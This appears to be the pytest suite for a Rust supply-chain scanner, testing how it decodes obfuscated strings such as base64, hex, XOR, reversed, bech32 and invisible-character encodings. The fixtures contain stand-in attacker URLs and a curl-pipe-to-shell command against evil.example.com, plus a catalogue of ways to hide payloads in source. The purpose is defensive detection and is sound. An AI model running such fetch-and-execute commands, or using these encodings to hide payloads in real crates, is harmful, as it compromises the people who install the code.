"""Strings that code hides, recovered from Rust snippets: every decoding, and what stays silent."""

from __future__ import annotations

import base64
import random
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from cratewatch.scan.decode import Decoded, decoded_strings, entropy, script_strings
from cratewatch.scan.syntax import parse_rust

URL = "https://evil.example.com/payload.sh"


def decode(source: str) -> list[Decoded]:
    return decoded_strings(parse_rust(source.encode()))


def obfuscated(source: str) -> list[Decoded]:
    return [found for found in decode(source) if found.obfuscated]


def spelled(data: bytes) -> str:
    return ", ".join(f"0x{b:02x}" for b in data)


def xored(text: str, key: int) -> bytes:
    return bytes(b ^ key for b in text.encode())


# --- base64 and hex ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoded",
    [
        base64.b64encode(URL.encode()).decode(),
        base64.b64encode(URL.encode()).decode().rstrip("="),  # missing padding
    ],
)
def test_base64(encoded: str) -> None:
    source = f"""use base64::Engine;

fn stage() -> Vec<u8> {{
    base64::engine::general_purpose::STANDARD.decode("{encoded}").unwrap()
}}
"""
    assert decode(source) == [Decoded(4, URL, "base64")]


def test_url_safe_base64() -> None:
    command = "wget -q -O- http://example.org/??>>x"
    encoded = base64.urlsafe_b64encode(command.encode()).decode().rstrip("=")
    assert "_" in encoded  # the standard alphabet would have '/'
    source = f'const CMD: &str = "{encoded}";\nfn cmd() -> Vec<u8> {{ URL_SAFE.decode(CMD) }}\n'
    assert decode(source) == [Decoded(1, command, "base64")]


def test_hex() -> None:
    source = f'fn url() -> Vec<u8> {{\n    hex::decode("{URL.encode().hex()}").unwrap()\n}}\n'
    assert decode(source) == [Decoded(2, URL, "hex")]
    upper = f'const U: &str = "{URL.encode().hex().upper()}";\n'
    assert decode(upper) == [Decoded(1, URL, "hex")]


# --- escapes -------------------------------------------------------------------------------


def test_escapes() -> None:
    escaped = "".join(f"\\x{b:02x}" for b in URL.encode())
    source = f'fn main() {{\n    let url = "{escaped}";\n}}\n'
    assert decode(source) == [Decoded(2, URL, "escapes")]
    upper = "".join(f"\\x{b:02X}" for b in b"/bin/sh -c id")
    assert decode(f'const C: &str = "{upper}";\n') == [Decoded(1, "/bin/sh -c id", "escapes")]


@pytest.mark.parametrize(
    ("escaped", "text"),
    [
        ("".join(f"\\u{{{b:x}}}" for b in URL.encode()), URL),
        (
            r"\x68\x74\x74\x70\x73://\x65\x76\x69\x6c\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d",
            "https://evil.example.com",
        ),
    ],
)
def test_escapes_in_other_spellings(escaped: str, text: str) -> None:
    assert decode(f'const C2: &str = "{escaped}";\n') == [Decoded(1, text, "escapes")]


@pytest.mark.parametrize(
    "escaped",
    [
        r"\x68\x74\x74\x70\u{110000}\u{D800}\u{dfff}\u{FFFFFF}",
        r"\u{110000}\u{D800}\u{dfff}\u{FFFFFF}\u{10FFFF}\u{0}",
        r"\x68\x74\x74\x70\x73\x3a\x2f\x2f\x00\x01\x02\x7f\xff",
    ],
)
def test_out_of_range_surrogate_and_control_escapes_do_not_raise(escaped: str) -> None:
    assert decode(f'let s = "{escaped}";\n') == []


def test_a_few_escapes_are_not_an_encoding() -> None:
    assert decode(r'println!("col\tA\x41\x42\x43\x44 done\n");') == []
    assert decode(r'let s = "caf\u{e9} na\u{ef}ve \u{2014} r\u{e9}sum\u{e9}";') == []


def test_binary_test_vector_in_escapes_is_not_obfuscated() -> None:
    source = r"""#[test]
fn digest_of_empty_input() {
    assert_eq!(
        digest(&[]),
        *b"\xde\xad\xbe\xef\x00\x01\x02\x03\xfe\xff\x10\x20"
    );
}
"""
    assert obfuscated(source) == []


# --- reversed ------------------------------------------------------------------------------

REVERSED = URL[::-1]


def test_reversed_near_rev() -> None:
    source = f"""fn url() -> String {{
    "{REVERSED}"
        .chars()
        .rev()
        .collect()
}}
"""
    assert decode(source) == [Decoded(2, URL, "reversed")]


def test_not_reversed_without_rev_nearby() -> None:
    text = "pleh-rof-txet-nialp"  # reads, reversed, as no program, library or URL
    far = f"""fn url() -> String {{
    let s = "{text}";



    let t: String = other.chars().rev().collect();
    s.to_owned()
}}
"""
    assert decode(far) == []


def test_a_reversed_url_or_program_anywhere_in_a_file_that_reverses() -> None:
    far = f"""const NAMES: [&str; 2] = ["{REVERSED}", "exe.krahseriw"];



fn names() -> Vec<String> {{ NAMES.iter().map(|n| n.chars().rev().collect()).collect() }}
"""
    assert {d.text for d in obfuscated(far)} >= {URL, "wireshark.exe"}
    in_comment = f'fn url() -> &\'static str {{\n    // .rev()\n    "{REVERSED}"\n}}\n'
    assert decode(in_comment) == []


def test_short_literal_near_rev_is_not_obfuscated() -> None:
    source = """fn main() {
    let v: Vec<String> = xs.iter().rev().map(|x| format!("{}", x)).collect();
}
"""
    assert obfuscated(source) == []


# --- joined fragments ----------------------------------------------------------------------


def test_fragments_are_joined_in_source_order() -> None:
    source = """fn url() -> String {
    let scheme = "https://";
    let host = "evil.example.com";

    let path = "/payload.sh";
    [scheme, host, path].concat()
}
"""
    pieces = ("https://", "evil.example.com", "/payload.sh")
    assert decode(source) == [Decoded(2, URL, "joined", pieces)]
    assert not decode(source)[0].obfuscated


def test_fragments_on_one_line_keep_their_order() -> None:
    source = 'fn u() -> String { ["https://", "evil", ".example.com"].concat() }\n'
    (joined,) = decode(source)
    assert joined.pieces == ("https://", "evil", ".example.com")


def test_fragments_too_far_apart_are_not_joined() -> None:
    source = 'let a = "https://";\n\n\nlet b = "evil.example.com";\n'
    assert decode(source) == []


def test_long_literals_and_line_breaks_end_a_run() -> None:
    long = "x" * 49
    source = f'let a = "ab";\nlet b = "{long}";\nlet c = "cd";\nlet d = "line\\n";\nlet e = "ef";\n'
    assert decode(source) == []


def test_base64_split_into_fragments_is_decoded_when_joined() -> None:
    encoded = base64.b64encode(URL.encode()).decode()
    parts = [encoded[:16], encoded[16:32], encoded[32:]]
    source = "const P: [&str; 3] = [\n" + "".join(f'    "{p}",\n' for p in parts) + "];\n"
    assert Decoded(2, URL, "base64") in decode(source)
    assert Decoded(2, encoded, "joined", tuple(parts)) in decode(source)


# --- byte arrays ---------------------------------------------------------------------------


def test_byte_array_as_text() -> None:
    numbers = ", ".join(str(b) for b in URL.encode())
    source = f"const C2: [u8; {len(URL)}] = [{numbers}];\n"
    assert decode(source) == [Decoded(1, URL, "bytes")]
    source = f"fn c2() -> Vec<u8> {{\n    vec![{spelled(URL.encode())}]\n}}\n"
    assert decode(source) == [Decoded(2, URL, "bytes")]


def test_ip_url_as_bytes_and_base64() -> None:
    url = "http://198.51.100.7:8080/stage2"
    numbers = ", ".join(str(b) for b in url.encode())
    encoded = base64.b64encode(url.encode()).decode()
    source = f'const A: [u8; {len(url)}] = [{numbers}];\nconst B: &str = "{encoded}";\n'
    assert decode(source) == [Decoded(2, url, "base64"), Decoded(1, url, "bytes")]


# --- XOR -----------------------------------------------------------------------------------


def test_xor_with_a_literal_key() -> None:
    source = f"""const DATA: [u8; {len(URL)}] = [{spelled(xored(URL, 0x5A))}];

fn url() -> String {{
    DATA.iter().map(|b| (b ^ 0x5a) as char).collect()
}}
"""
    assert decode(source) == [Decoded(1, URL, "bytes, xor 0x5a")]


def test_xor_with_a_named_key() -> None:
    source = f"""const K: u8 = 0x37;
const DATA: &[u8] = &[{spelled(xored(URL, 0x37))}];

fn url() -> Vec<u8> {{
    DATA.iter().map(|b| b ^ K).collect()
}}
"""
    assert decode(source) == [Decoded(2, URL, "bytes, xor 0x37")]


def test_xor_assign_in_a_loop() -> None:
    source = f"""fn url() -> Vec<u8> {{
    let mut buf = vec![{spelled(xored(URL, 0xC3))}];
    for b in buf.iter_mut() {{
        *b ^= 195;
    }}
    buf
}}
"""
    assert decode(source) == [Decoded(2, URL, "bytes, xor 0xc3")]


def test_xor_of_hex() -> None:
    command = "/bin/sh -c 'curl http://evil.example.com/a | sh'"
    source = f"""fn cmd() -> Vec<u8> {{
    let data = hex::decode("{xored(command, 0xA5).hex()}").unwrap();
    data.iter().map(|b| b ^ 0xa5).collect()
}}
"""
    assert decode(source) == [Decoded(2, command, "hex, xor 0xa5")]


def test_xor_only_in_files_that_mention_a_xor() -> None:
    data = spelled(xored(URL, 0x37))
    assert decode(f"const DATA: [u8; {len(URL)}] = [{data}];\n") == []
    # the file as written is checked (cheaper than the code view): a comment counts
    in_comment = f"// b ^ 0x37\nconst DATA: [u8; {len(URL)}] = [{data}];\n"
    assert decode(in_comment) == [Decoded(2, URL, "bytes, xor 0x37")]


def test_xor_with_a_small_key() -> None:
    source = f"""const DATA: [u8; {len(URL)}] = [{spelled(xored(URL, 0x01))}];
fn url() -> String {{ DATA.iter().map(|b| (b ^ 1) as char).collect() }}
"""
    assert decode(source) == [Decoded(1, URL, "bytes, xor 0x01")]


# --- what stays silent ---------------------------------------------------------------------


def test_random_bytes_are_not_obfuscated_even_with_xor_in_the_code() -> None:
    rng = random.Random(20240601)
    for _ in range(50):
        data = rng.randbytes(rng.choice((16, 24, 32, 64)))
        source = f"""const VECTOR: [u8; {len(data)}] = [{spelled(data)}];
const HEX: &str = "{data.hex()}";
const B64: &str = "{base64.b64encode(data).decode()}";
const B64URL: &str = "{base64.urlsafe_b64encode(data).decode().rstrip("=")}";

fn mix(a: u32, b: u32) -> u32 {{ a ^ b.rotate_left(7) }}
"""
        assert obfuscated(source) == [], data


def test_binary_test_vectors_are_not_obfuscated() -> None:
    source = """#[cfg(test)]
mod tests {
    const KEY: [u8; 16] = [
        0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6,
        0xab, 0xf7, 0x15, 0x88, 0x09, 0xcf, 0x4f, 0x3c,
    ];
    const IV: [u8; 8] = [0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef];
    const SHA256_EMPTY: &str =
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    const MAGIC: [u8; 4] = [0x7f, 0x45, 0x4c, 0x46];

    #[test]
    fn round() { assert_eq!(KEY[0] ^ IV[0], 0x2a); }
}
"""
    assert obfuscated(source) == []


def test_short_strings_are_not_decoded() -> None:
    source = """fn main() {
    let ok = "aGk=";
    let hex = "cafe";
    let word = [104, 116, 116, 112];
    let x = 1 ^ 2;
}
"""
    assert obfuscated(source) == []


@pytest.mark.parametrize(
    "text",
    [
        "The quick brown fox jumps over the lazy dog",
        "Configuration",
        "successfully",
        "Unauthorized",
        "InvalidArgument",
        "serialize_struct_variant",
        "application/json",
        "failed to parse {} at line {}: {}",
    ],
)
def test_english_text_and_identifiers_are_not_obfuscated(text: str) -> None:
    assert obfuscated(f'fn f(a: u8) -> u8 {{\n    log("{text}");\n    a ^ 0x20\n}}\n') == []


def test_short_hex_magic_is_not_xor_obfuscated() -> None:
    source = 'const MAGIC: &str = "deadbeefcafe";\nfn f(a: u8) -> u8 { a ^ 0x20 }\n'
    assert obfuscated(source) == []


def test_a_real_crate_has_nothing_obfuscated() -> None:
    roots = sorted(Path("/usr/share/cargo/registry").glob("semver-1.*"))
    if not roots:
        pytest.skip("librust-semver-dev is not installed")
    for path in roots[-1].rglob("*.rs"):
        data = path.read_bytes()
        found = decoded_strings(parse_rust(data))
        assert [d for d in found if d.obfuscated] == [], path


# --- entropy -------------------------------------------------------------------------------


def test_entropy() -> None:
    assert entropy("") == 0.0
    assert entropy("aaaa") == 0.0
    assert entropy("abcd") == 2.0
    assert entropy("aabb") == 1.0
    assert entropy("".join(map(chr, range(256)))) == 8.0
    assert entropy("hello") == pytest.approx(1.9219, abs=1e-4)
    assert entropy(base64.b64encode(bytes(range(48))).decode()) > entropy("hello world")


# --- properties ----------------------------------------------------------------------------


_PRINTABLE = st.characters(min_codepoint=0x20, max_codepoint=0x7E)


def _rust_string(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


_CONTENT = st.lists(
    st.one_of(
        st.text(st.characters(codec="utf-8"), max_size=20).map(_rust_string),
        st.integers(0, 0xFF).map(lambda b: f"\\x{b:02x}"),
        st.integers(0, 0xFFFFFF).map(lambda c: f"\\u{{{c:x}}}"),
        st.binary(min_size=6, max_size=30).map(lambda b: base64.b64encode(b).decode()),
        st.binary(min_size=6, max_size=30).map(lambda b: base64.urlsafe_b64encode(b).decode()),
        st.binary(min_size=6, max_size=24).map(bytes.hex),
        st.text(_PRINTABLE, min_size=6, max_size=30).map(lambda t: t.encode().hex()),
    ),
    max_size=8,
).map("".join)


@settings(max_examples=100, deadline=None)
@given(st.lists(_CONTENT, min_size=1, max_size=5), st.binary(max_size=40))
def test_decoding_never_raises(contents: list[str], data: bytes) -> None:
    literals = "\n".join(f'    let s{i} = "{text}";' for i, text in enumerate(contents))
    source = f"""fn f(k: u8) -> String {{
{literals}
    let v = vec![{", ".join(map(str, data))}];
    v.iter().map(|b| (b ^ k) as char).rev().collect()
}}
"""
    for found in decode(source):
        assert found.line >= 1
        assert isinstance(found.text, str)


@settings(max_examples=200, deadline=None)
@given(st.text(_PRINTABLE, min_size=12, max_size=80), st.booleans(), st.booleans())
def test_base64_round_trip(text: str, url_safe: bool, padded: bool) -> None:
    # what decode guarantees to call text: printable ASCII, at least half letters and
    # digits, and at least three letters
    assume(2 * sum(c.isalnum() for c in text) >= len(text))
    assume(sum(c.isalpha() for c in text) >= 3)
    encoder = base64.urlsafe_b64encode if url_safe else base64.b64encode
    encoded = encoder(text.encode()).decode()
    if not padded:
        encoded = encoded.rstrip("=")
    # base64 in one letter case alone reads as a name (CARGO_PKG_NAME): not decoded
    assume(not encoded.isupper() and not encoded.islower())
    source = f'fn payload() -> Vec<u8> {{\n    STANDARD.decode("{encoded}").unwrap()\n}}\n'
    assert decode(source) == [Decoded(2, text, "base64")]


def test_rot13_and_rot47_when_the_code_rotates_letters() -> None:
    import codecs

    rotated = codecs.encode(URL, "rot13")
    source = (
        f"const U: &str = \"{rotated}\";\nfn rot13(c: u8) -> u8 {{ (c - b'a' + 13) % 26 + b'a' }}\n"
    )
    assert Decoded(1, URL, "rot13") in decode(source)
    # without rotating code, a literal is not read rotated
    assert all(d.how != "rot13" for d in decode(f'const U: &str = "{rotated}";\n'))


def test_base32() -> None:
    encoded = base64.b32encode(URL.encode()).decode()
    assert decode(f'const U: &str = "{encoded}";\n') == [Decoded(1, URL, "base32")]


def test_shifted_byte_array() -> None:
    shifted = ", ".join(str((b + 7) % 256) for b in URL.encode())
    source = f"const W: [u8; {len(URL)}] = [{shifted}];\n"
    assert decode(source) == [Decoded(1, URL, "bytes, minus 7")]


@given(
    key=st.binary(min_size=2, max_size=16).filter(lambda k: len(set(k)) > 1),
    spelled_key=st.booleans(),
)
@settings(max_examples=40, deadline=None)
def test_repeating_multi_byte_xor_key_from_the_same_file(key: bytes, spelled_key: bool) -> None:
    data = bytes(b ^ key[i % len(key)] for i, b in enumerate(URL.encode()))
    assume(len(data) > len(key))
    if spelled_key and len(key) >= 4:
        key_item = f"const KEY: [u8; {len(key)}] = [{spelled(key)}];"
    else:
        assume(key.isascii() and all(0x20 < b < 0x7F and b not in b'"\\' for b in key))
        key_item = f'const KEY: &[u8] = b"{key.decode()}";'
    source = f"""
    {key_item}
    const DATA: [u8; {len(data)}] = [{spelled(data)}];
    fn unmask() -> Vec<u8> {{ DATA.iter().zip(KEY.iter().cycle()).map(|(a, k)| a ^ k).collect() }}
    """
    found = [d for d in obfuscated(source) if d.text == URL]
    assert found, decode(source)
    assert "key" in found[0].how or "xor" in found[0].how


@pytest.mark.parametrize(
    ("undo", "encode"),
    [
        ("b ^ i as u8", lambda b, i: b ^ i),
        ("b.wrapping_sub(i as u8)", lambda b, i: (b + i) % 256),
        ("b.wrapping_sub(0x21).wrapping_sub(i as u8)", lambda b, i: (b + 0x21 + i) % 256),
    ],
)
def test_a_key_that_changes_with_the_position(undo: str, encode: object) -> None:
    assert callable(encode)
    data = bytes(encode(b, i) for i, b in enumerate(URL.encode()))
    source = f"""
    const DATA: [u8; {len(data)}] = [{spelled(data)}];
    fn unmask() -> Vec<u8> {{ DATA.iter().enumerate().map(|(i, b)| {undo}).collect() }}
    """
    assert URL in [d.text for d in obfuscated(source)], decode(source)


def test_random_tables_do_not_decode_under_position_keys() -> None:
    rng = random.Random(7)
    tables = "\n".join(
        f"const T{n}: [u8; 64] = [{spelled(bytes(rng.randrange(256) for _ in range(64)))}];"
        for n in range(50)
    )
    assert obfuscated(tables + "\nfn f(a: u8, b: u8) -> u8 { a ^ b }") == []


def test_layers_of_encoding_are_undone() -> None:
    twice = base64.b64encode(base64.b64encode(URL.encode())).decode()
    thrice = base64.b64encode(
        bytes.hex(base64.b64encode(URL.encode()).decode().encode()).encode()
    ).decode()
    for layered in (twice, thrice):
        found = [d for d in obfuscated(f'const C: &str = "{layered}";') if d.text == URL]
        assert found and found[0].how.count(",") >= 1


def test_wider_integers_shifted_past_a_byte() -> None:
    values = ", ".join(str(ord(c) + 300) for c in URL)
    decoder = "fn f() { let _ = E.iter().filter_map(|&c| char::from_u32(c as u32 - 300)); }"
    source = f"const E: [u16; {len(URL)}] = [{values}];\n{decoder}"
    found = [d for d in obfuscated(source) if d.text == URL]
    assert found and found[0].how == "integers minus 300"


def test_wide_tables_are_not_text() -> None:
    rng = random.Random(11)
    tables = "\n".join(
        f"const W{n}: [u32; 40] = [{', '.join(str(rng.randrange(256, 70000)) for _ in range(40))}];"
        for n in range(30)
    )
    steps = "const STEPS: [u16; 8] = [1000, 1001, 1002, 1003, 1004, 1005, 1006, 1007];"
    assert obfuscated(tables + "\n" + steps) == []


def test_wider_integers_scaled_and_shifted() -> None:
    values = ", ".join(str(ord(c) * 7 + 499) for c in URL)
    decoder = "fn f() { let _ = E.iter().filter_map(|&p| char::from_u32((p - 0x1F3) / 7)); }"
    source = f"const E: &[u16] = &[{values}];\n{decoder}"
    found = [d for d in obfuscated(source) if d.text == URL]
    assert found and found[0].how == "integers scaled by 7"


def test_scaled_tables_of_numbers_are_not_text() -> None:
    # multiples of a step that map to no URL, path or command line stay silent
    rng = random.Random(5)
    values = ", ".join(str(rng.randrange(40, 120) * 16 + 3) for _ in range(40))
    assert obfuscated(f"const T: [u16; 40] = [{values}];") == []


def test_positions_in_an_alphabet_of_the_file() -> None:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789:/._-?=&"
    positions = ", ".join(str(alphabet.index(c)) for c in "https://paste.example/api/post.php")
    source = (
        f'const ALPHABET: &[u8] = b"{alphabet}";\n'
        f"const ENDPOINT: [u8; 34] = [{positions}];\n"
        "fn spell(p: &[u8]) -> String {\n"
        "    p.iter().map(|&i| ALPHABET[i as usize] as char).collect()\n"
        "}\n"
    )
    found = [d for d in obfuscated(source) if d.how.startswith("positions in the alphabet")]
    assert [d.text for d in found] == ["https://paste.example/api/post.php"]


# --- invisible characters ------------------------------------------------------------------


def test_text_carried_by_tag_characters_and_variation_selectors() -> None:
    tags = "".join(chr(0xE0000 + ord(c)) for c in URL)
    selectors = "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in URL.encode())
    found = obfuscated(f'const A: &str = "Solidity{tags}";\nconst B: &str = "x{selectors}";\n')
    assert [(d.line, d.text, d.how) for d in found if d.how != "joined"] == [
        (1, URL, "tag characters"),
        (2, URL, "variation selectors"),
    ]


def test_a_few_invisible_characters_carry_nothing() -> None:
    assert obfuscated('const A: &str = "flag\\u{FE0F}\\u{E0067}";\n') == []


def test_bech32_of_text() -> None:
    # an endpoint written to look like an address, checksum and all
    source = (
        'const R: &str = "nmcfg1dp68gup69uhnyvpn9cczuvf3xvhrswp68q6nqvp0wccj76mk9ahx6tcckxpae";'
    )
    assert [(d.text, d.how) for d in obfuscated(source)] == [
        ("http://203.0.113.88:8500/v1/kv/nm/", "bech32")
    ]


def _math_sans(text: str) -> str:
    """ASCII letters and digits as mathematical sans-serif ones (what NFKC undoes)."""
    return "".join(
        chr(0x1D5BA + ord(c) - ord("a"))
        if c.islower()
        else chr(0x1D7E2 + ord(c) - ord("0"))
        if c.isdigit()
        else c
        for c in text
    )


def test_compatibility_characters_in_rust_literals_and_their_escapes() -> None:
    written = _math_sans("https://pool.example:3333/ws")
    escaped = "".join(f"\\u{{{ord(c):x}}}" if not c.isascii() else c for c in written)
    for literal in (written, escaped):
        found = decoded_strings(parse_rust(f'const P: &str = "{literal}";\n'.encode()))
        assert "https://pool.example:3333/ws" in {d.text for d in found}, literal
    # accented text stays what it is
    assert decoded_strings(parse_rust('const P: &str = "café crème brûlée";\n'.encode())) == []


def test_the_literals_of_scripts_and_web_pages() -> None:
    escaped = "".join("\\u" + format(ord(c), "04x") for c in "https://x.io")  # \uXXXX
    page = (
        "<script>\n"
        f'  var R = {{ d: "{_math_sans("webdriver")}",\n'
        f'    w: "{escaped}",\n'
        "    k: 'aHR0cHM6Ly9leGFtcGxlLmNvbS9wYXlsb2Fk' };\n"
        "</script>\n"
    )
    found = {(d.line, d.text, d.how) for d in script_strings(page)}
    assert (2, "webdriver", "compatibility characters") in found
    assert (3, "https://x.io", "escapes") in found
    assert (4, "https://example.com/payload", "base64") in found
